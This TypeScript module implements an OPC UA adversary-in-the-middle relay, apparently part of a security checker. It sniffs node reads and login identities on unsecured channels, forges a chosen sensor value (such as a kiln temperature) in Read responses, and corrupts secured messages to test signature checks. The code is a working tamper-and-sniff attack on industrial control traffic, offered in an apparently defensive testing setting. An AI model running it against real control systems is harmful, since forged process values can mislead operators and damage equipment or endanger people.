/**
 * The attacker's OPC UA relay (adversary in the middle): a TCP listener on loopback that a
 * victim client connects to instead of the server, forwarding every chunk to the one checked
 * target and back. On a channel without security (policy None, read from the OpenSecureChannel
 * header, which is always in clear) it reads what passes (node ids read, values, the identity
 * a session activates with, a password in clear) and rewrites the Double value of the chosen
 * node in Read responses; on a secured channel it can read nothing, and it flips a byte of
 * each secured message from the server (its blind rewrite), which the victim's signature
 * check must catch. Buffers, connections and what it records are bounded.
 */
import { createServer, connect, type Server, type Socket } from 'node:net';
import { ActivateSessionRequest, AnonymousIdentityToken, BinaryStream, DataType, ReadRequest, ReadResponse, UserNameIdentityToken, Variant, decodeExpandedNodeId } from 'node-opcua';

/** larger chunks than this are not OPC UA as node-opcua speaks it: the connection is dropped [bytes] */
const MAX_CHUNK = 1 << 20;
/** victim connections at once */
const MAX_CONNECTIONS = 4;
/** things read in clear kept at most */
const MAX_READ = 40;
/** Read requests whose answer is awaited, per connection, at most */
const MAX_PENDING = 256;

/** What the relay saw and did. */
export interface RelayLog {
  /** security policies the victim's channels asked for (`None`, `Basic256Sha256`) */
  policies: string[];
  /** what it could read in clear (node ids, values, identities), in order, deduplicated */
  readable: string[];
  /** values of the chosen node it rewrote: [true, forged] */
  rewritten: [number, number][];
  /** secured chunks it tampered with */
  tampered: number;
  /** chunks it forwarded */
  chunks: number;
}

/** A running relay. */
export interface Relay {
  /** `opc.tcp://127.0.0.1:PORT`: where the victim is pointed */
  url: string;
  log: RelayLog;
  close(): Promise<void>;
}

/** What to rewrite: the Value of the node whose string id is `node` (e.g. `kiln.t1`), through `forge`. */
export interface Rewrite {
  node: string;
  forge(value: number): number;
}

const note = (log: RelayLog, line: string): void => {
  if (log.readable.length < MAX_READ && !log.readable.includes(line)) log.readable.push(line);
};

/** The security policy of an OpenSecureChannel chunk (its asymmetric header is never encrypted). */
function policyOf(chunk: Buffer): string | null {
  if (chunk.length < 16) return null;
  const n = chunk.readInt32LE(12);
  if (n <= 0 || 16 + n > chunk.length) return null;
  return chunk.subarray(16, 16 + n).toString('latin1').split('#')[1] ?? null;
}

/** body offset of a MSG chunk on a channel without security: header 8, channel 4, token 4, sequence 4, request 4 */
const BODY = 24;

/** One victim connection: chunks each way, read and rewritten on a None channel. */
function pipe(victim: Socket, target: { host: string; port: number }, rewrite: Rewrite, log: RelayLog): void {
  const server = connect(target.port, target.host);
  let secured: boolean | null = null;
  /** requestId → index of the chosen node in that Read's nodesToRead */
  const reads = new Map<number, number>();
  const drop = (): void => {
    victim.destroy();
    server.destroy();
  };
  victim.on('error', drop).on('close', drop);
  server.on('error', drop).on('close', drop);

  const fromVictim = (chunk: Buffer): Buffer => {
    const type = chunk.toString('latin1', 0, 3);
    if (type === 'OPN') {
      const policy = policyOf(chunk) ?? '?';
      if (!log.policies.includes(policy)) log.policies.push(policy);
      secured = policy !== 'None';
      return chunk;
    }
    if (type !== 'MSG' || secured !== false || chunk[3] !== 0x46) return chunk;
    try {
      const s = new BinaryStream(chunk.subarray(BODY));
      const typeId = decodeExpandedNodeId(s).value;
      if (typeId === 631) {
        const r = new ReadRequest();
        r.decode(s);
        const ids = (r.nodesToRead ?? []).map((n) => (typeof n.nodeId.value === 'string' ? n.nodeId.value : n.nodeId.toString()));
        for (const id of ids) note(log, `read ${id}`);
        const k = ids.indexOf(rewrite.node);
        if (k >= 0 && reads.size < MAX_PENDING) reads.set(chunk.readUInt32LE(20), k);
      } else if (typeId === 467) {
        const r = new ActivateSessionRequest();
        r.decode(s);
        const t = r.userIdentityToken as unknown;
        if (t instanceof UserNameIdentityToken) {
          const clear = (t.encryptionAlgorithm ?? '') === '';
          note(log, `login user "${t.userName ?? ''}" with the password ${clear ? `in clear (${(t.password ?? Buffer.alloc(0)).length} bytes)` : 'encrypted'}`);
        } else if (t instanceof AnonymousIdentityToken) note(log, 'login anonymous');
      }
    } catch {
      // not a message it knows: forwarded as it came
    }
    return chunk;
  };

  const fromServer = (chunk: Buffer): Buffer => {
    const type = chunk.toString('latin1', 0, 3);
    if (type !== 'MSG' || secured === null) return chunk;
    if (secured) {
      // encrypted and signed: nothing to read; the blind rewrite is one flipped byte past the headers
      if (chunk.length <= BODY + 16) return chunk;
      const out = Buffer.from(chunk);
      out[BODY + 8] = out[BODY + 8]! ^ 0xff;
      log.tampered++;
      return out;
    }
    if (chunk[3] !== 0x46) return chunk;
    const requestId = chunk.readUInt32LE(20);
    try {
      const s = new BinaryStream(chunk.subarray(BODY));
      const typeId = decodeExpandedNodeId(s).value;
      if (typeId !== 634) return chunk;
      const start = BODY + s.length;
      const r = new ReadResponse();
      r.decode(s);
      const k = reads.get(requestId);
      reads.delete(requestId);
      const v = k === undefined ? undefined : r.results?.[k]?.value;
      if (v === undefined || v.dataType !== DataType.Double || typeof v.value !== 'number') return chunk;
      const truth = v.value;
      const forged = rewrite.forge(truth);
      note(log, `value ${rewrite.node} = ${truth}`);
      r.results![k!]!.value = new Variant({ dataType: DataType.Double, value: forged });
      const body = new BinaryStream(r.binaryStoreSize());
      r.encode(body);
      const out = Buffer.concat([chunk.subarray(0, start), body.buffer]);
      out.writeUInt32LE(out.length, 4);
      if (log.rewritten.length < MAX_READ) log.rewritten.push([truth, forged]);
      return out;
    } catch {
      return chunk;
    }
  };

  const framer = (to: Socket, handle: (c: Buffer) => Buffer) => {
    let buf: Buffer = Buffer.alloc(0);
    return (data: Buffer): void => {
      buf = buf.length === 0 ? data : Buffer.concat([buf, data]);
      while (buf.length >= 8) {
        const size = buf.readUInt32LE(4);
        if (size < 8 || size > MAX_CHUNK) {
          drop();
          return;
        }
        if (buf.length < size) break;
        const chunk = buf.subarray(0, size);
        buf = buf.subarray(size);
        log.chunks++;
        to.write(handle(chunk));
      }
      if (buf.length > MAX_CHUNK) drop();
    };
  };
  victim.on('data', framer(server, fromVictim));
  server.on('data', framer(victim, fromServer));
}

/** Starts a relay on 127.0.0.1 (a free port) forwarding to `target` (the checked OPC UA endpoint) only. */
export async function startRelay(target: URL, rewrite: Rewrite): Promise<Relay> {
  const host = target.hostname.replace(/^\[|\]$/g, '');
  const port = Number(target.port || 4840);
  const log: RelayLog = { policies: [], readable: [], rewritten: [], tampered: 0, chunks: 0 };
  const open = new Set<Socket>();
  const server: Server = createServer((victim) => {
    if (open.size >= MAX_CONNECTIONS) {
      victim.destroy();
      return;
    }
    open.add(victim);
    victim.on('close', () => open.delete(victim));
    pipe(victim, { host, port }, rewrite, log);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const addr = server.address();
  const listening = typeof addr === 'object' && addr !== null ? addr.port : 0;
  return {
    url: `opc.tcp://127.0.0.1:${listening}`,
    log,
    close: () => new Promise<void>((resolve) => {
      for (const s of open) s.destroy();
      server.close(() => resolve());
    }),
  };
}
